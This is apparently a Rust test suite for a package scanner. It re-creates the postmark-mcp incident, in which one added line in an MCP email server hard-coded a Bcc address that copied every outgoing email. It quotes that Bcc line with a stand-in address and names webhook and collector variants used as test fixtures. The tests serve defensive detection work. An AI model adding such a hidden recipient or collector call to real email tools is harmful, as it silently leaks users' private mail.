//! The `postmark-mcp` incident (September 2025), end to end through the CLI.
//!
//! Versions up to 1.0.15 of `postmark-mcp` were an honest MCP email server;
//! 1.0.16 added one line to the payload of its `sendEmail` tool,
//! a hard-coded `Bcc` address, and every email an agent sent was copied out.
//! The fixtures in `tests/fixtures/postmark-mcp-*` are our own inert
//! re-creations (the address is `phan@giftshop.invalid`); nothing here
//! installs or runs them.

mod common;

use common::{deciding, fixture, line_of, only_package, rules_of, run_in_fixtures};
use serde_json::Value;

const BCC_LINE: &str = "Bcc: 'phan@giftshop.invalid',";

#[test]
fn postmark_mcp_1_0_15_is_clean() {
    let run = run_in_fixtures(&["scan", "postmark-mcp-1.0.15", "--format", "json"]);
    run.assert_code(0);
    let report = run.json();
    let package = only_package(&report);
    assert_eq!(package["name"], "postmark-mcp");
    assert_eq!(package["version"], "1.0.15");
    assert_eq!(package["verdict"], "clean", "{package:#}");
    assert!(deciding(package).is_empty());
}

#[test]
fn postmark_mcp_fixtures_differ_by_the_bcc_line_only() {
    let old = std::fs::read_to_string(fixture("postmark-mcp-1.0.15/index.js")).unwrap_or_default();
    let new = std::fs::read_to_string(fixture("postmark-mcp-1.0.16/index.js")).unwrap_or_default();
    let old_lines: Vec<&str> = old.lines().collect();
    let mut new_lines: Vec<&str> = new.lines().collect();
    let at = usize::try_from(line_of(&new, BCC_LINE)).unwrap_or(usize::MAX) - 1;
    assert_eq!(new_lines.remove(at).trim(), BCC_LINE);
    assert_eq!(
        old_lines, new_lines,
        "1.0.16 must differ from 1.0.15 by one added line"
    );
}

#[test]
fn postmark_mcp_1_0_16_bcc_is_malicious_at_the_added_line() {
    let run = run_in_fixtures(&["scan", "postmark-mcp-1.0.16", "--format", "json"]);
    run.assert_code(1);
    let report = run.json();
    let package = only_package(&report);
    assert_eq!(package["verdict"], "malicious", "{package:#}");
    let deciding = deciding(package);
    assert_eq!(deciding.len(), 1, "{package:#}");
    let finding = deciding[0];
    assert_eq!(finding["rule"], "exfil/email-hardcoded-recipient");
    assert_eq!(finding["severity"], "critical");
    let source =
        std::fs::read_to_string(fixture("postmark-mcp-1.0.16/index.js")).unwrap_or_default();
    assert_eq!(finding["location"]["path"], "index.js");
    assert_eq!(finding["location"]["line"], line_of(&source, BCC_LINE));
    assert_eq!(finding["snippet"].as_str().map(str::trim), Some(BCC_LINE));
    assert!(
        finding["message"]
            .as_str()
            .unwrap_or_default()
            .contains("phan@giftshop.invalid"),
        "{finding:#}"
    );
}

#[test]
fn postmark_mcp_1_0_16_text_output() {
    let run = run_in_fixtures(&["scan", "postmark-mcp-1.0.16"]);
    run.assert_code(1);
    assert!(run.stderr.is_empty(), "{}", run.stderr);
    insta::assert_snapshot!(run.stdout);
}

#[test]
fn postmark_mcp_1_0_16_json_output() {
    let run = run_in_fixtures(&["scan", "postmark-mcp-1.0.16", "--format", "json"]);
    run.assert_code(1);
    let mut report = run.json();
    report["tool"]["version"] = Value::String("[version]".into());
    insta::assert_json_snapshot!(report);
}

/// The caret under a finding must point at the span it names, also when the
/// snippet's indentation was trimmed.
#[test]
fn postmark_mcp_1_0_16_caret_points_at_the_address() {
    let run = run_in_fixtures(&["scan", "postmark-mcp-1.0.16"]);
    let lines: Vec<&str> = run.stdout.lines().collect();
    let at = lines.iter().position(|l| l.contains(BCC_LINE)).unwrap_or(0);
    let code = lines[at];
    let carets = lines.get(at + 1).copied().unwrap_or_default();
    let start = carets.find('^').unwrap_or(0);
    assert_eq!(
        code.get(start..start + 1),
        Some("'"),
        "caret under the address\n{code}\n{carets}"
    );
}

#[test]
fn postmark_mcp_nodemailer_bcc_variant_is_malicious() {
    let run = run_in_fixtures(&["scan", "postmark-mcp-nodemailer-bcc", "--format", "json"]);
    run.assert_code(1);
    let report = run.json();
    let package = only_package(&report);
    assert_eq!(package["verdict"], "malicious", "{package:#}");
    let deciding = deciding(package);
    assert!(
        deciding
            .iter()
            .any(|f| f["rule"] == "exfil/email-hardcoded-recipient"
                && f["snippet"]
                    .as_str()
                    .unwrap_or_default()
                    .contains("archive@mailsink.invalid")),
        "{package:#}"
    );
}

#[test]
fn postmark_mcp_webhook_variant_is_malicious() {
    let run = run_in_fixtures(&["scan", "postmark-mcp-webhook", "--format", "json"]);
    run.assert_code(1);
    let report = run.json();
    let package = only_package(&report);
    assert_eq!(package["verdict"], "malicious", "{package:#}");
    let deciding = deciding(package);
    assert!(
        deciding
            .iter()
            .any(|f| f["rule"] == "exfil/tool-arguments-to-collector"
                && f["message"]
                    .as_str()
                    .unwrap_or_default()
                    .contains("collector.invalid")),
        "{package:#}"
    );
}

#[test]
fn postmark_mcp_honest_variant_with_recipients_from_arguments_is_clean() {
    let run = run_in_fixtures(&["scan", "postmark-mcp-honest", "--format", "json"]);
    run.assert_code(0);
    let report = run.json();
    let package = only_package(&report);
    assert_eq!(package["verdict"], "clean", "{package:#}");
    let rules = rules_of(package);
    assert!(!rules.iter().any(|r| r.starts_with("exfil/")), "{rules:?}");
}

#[test]
fn postmark_mcp_both_versions_in_one_run() {
    let run = run_in_fixtures(&[
        "scan",
        "postmark-mcp-1.0.15",
        "postmark-mcp-1.0.16",
        "--format",
        "json",
    ]);
    run.assert_code(1);
    let report = run.json();
    let verdicts: Vec<(String, String)> = report["packages"]
        .as_array()
        .map(|ps| {
            ps.iter()
                .map(|p| {
                    (
                        p["version"].as_str().unwrap_or_default().to_owned(),
                        p["verdict"].as_str().unwrap_or_default().to_owned(),
                    )
                })
                .collect()
        })
        .unwrap_or_default();
    assert_eq!(
        verdicts,
        vec![
            ("1.0.15".to_owned(), "clean".to_owned()),
            ("1.0.16".to_owned(), "malicious".to_owned())
        ]
    );
}
